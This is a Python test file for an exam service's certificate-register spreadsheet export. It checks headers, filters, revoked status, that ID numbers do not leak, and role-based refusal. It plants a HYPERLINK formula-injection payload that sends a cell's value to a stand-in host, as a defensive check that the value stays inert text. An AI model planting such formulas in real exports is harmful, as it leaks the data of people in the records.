"""The register as .xlsx: the register's filters, Chinese headers, a frozen header row, the standing of each
certificate, no ID numbers, and text that looks like a formula kept as text."""

from __future__ import annotations

import io
import zipfile
from datetime import date

from openpyxl import load_workbook
from sqlalchemy import select

from examsvc.certificates import register_sheet
from examsvc.certificates.models import Certificate
from examsvc.identity.roles import Role
from tests.builders import auth_header, login, make_user
from tests.certificates.world import World

FORMULA_EMPLOYER = '=HYPERLINK("http://example.invalid/?x="&A3,"点此核验")'


def test_register_workbook_filters_like_the_register_and_leaks_no_id_numbers(world: World) -> None:
    client, db = world.client, world.day.db_session
    numbers = []
    for id_number in world.qualified:
        issued = world.issue(id_number)
        assert issued.status_code == 201, issued.text
        numbers.append(issued.json()["number"])
    # The world's candidates were registered without an employer, and candidate rows are append-only: the
    # certificate's copy of the name is what the register prints.
    db.scalars(select(Certificate).where(Certificate.number == numbers[0])).one().employer = FORMULA_EMPLOYER
    db.commit()
    revoked = client.post(f"/certificates/{numbers[1]}/revoke", headers=world.officer,
                          json={"reason": "考试作弊，撤销", "mode": "cancel"})
    assert revoked.status_code == 200, revoked.text

    inspector = make_user(db, Role.INSPECTOR)
    proctor = make_user(db, Role.PROCTOR)
    db.commit()
    reader = auth_header(login(client, inspector.username))
    everything = client.get("/certificates/register.xlsx", headers=reader)
    assert everything.status_code == 200, everything.text
    assert everything.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert everything.headers["content-disposition"].startswith('attachment; filename="certificates-')

    sheet = load_workbook(io.BytesIO(everything.content))[register_sheet.SHEET]
    rows = list(sheet.iter_rows(values_only=True))
    assert "证书台账" in rows[0][0] and "导出日期" in rows[0][0] and "共 2 本" in rows[0][0]
    assert rows[1] == ("证号", "序号", "证书种类", "操作项目/类别", "姓名", "工作单位", "初次领证日期", "有效期至",
                       "复审期限", "状态", "逢查必考")
    assert sheet.freeze_panes == "A3"
    assert sheet.column_dimensions["F"].width == 36
    by_number = {row[0]: row for row in rows[2:]}
    assert set(by_number) == set(numbers)
    valid, cancelled = by_number[numbers[0]], by_number[numbers[1]]
    assert valid[1] == 1 and valid[2] == "特种作业操作证" and valid[3] == "低压电工作业（1.2）"
    assert valid[9] == "有效" and cancelled[9] == "已撤销"
    assert valid[7].date() > valid[8].date() > valid[6].date() >= date(2024, 1, 1)  # expiry after review due
    # The employer is stored as a string with Excel's quote prefix: shown as typed, never evaluated.
    employer = sheet.cell(row=2 + 1 + sorted(numbers).index(numbers[0]), column=6)
    assert employer.value == FORMULA_EMPLOYER and employer.data_type == "s" and employer.quotePrefix
    with zipfile.ZipFile(io.BytesIO(everything.content)) as archive:
        parts = b"".join(archive.read(name) for name in archive.namelist())
    assert b"<f>" not in parts and b"<f " not in parts
    for id_number in world.ids:
        assert id_number.encode() not in parts and id_number[:14].encode() not in parts

    only_revoked = client.get("/certificates/register.xlsx", headers=reader, params={"standing": "revoked"})
    assert only_revoked.status_code == 200, only_revoked.text
    rows = list(load_workbook(io.BytesIO(only_revoked.content))[register_sheet.SHEET].iter_rows(values_only=True))
    assert [row[0] for row in rows[2:]] == [numbers[1]] and "共 1 本" in rows[0][0]
    by_employer = client.get("/certificates/register.xlsx", headers=reader, params={"employer": "HYPERLINK"})
    rows = list(load_workbook(io.BytesIO(by_employer.content))[register_sheet.SHEET].iter_rows(values_only=True))
    assert [row[0] for row in rows[2:]] == [numbers[0]]
    assert client.get("/certificates/register.xlsx", headers=reader, params={"kind": 3}).status_code == 422

    refused = client.get("/certificates/register.xlsx", headers=auth_header(login(client, proctor.username)))
    assert refused.status_code == 403 and refused.json()["error"] == "forbidden"
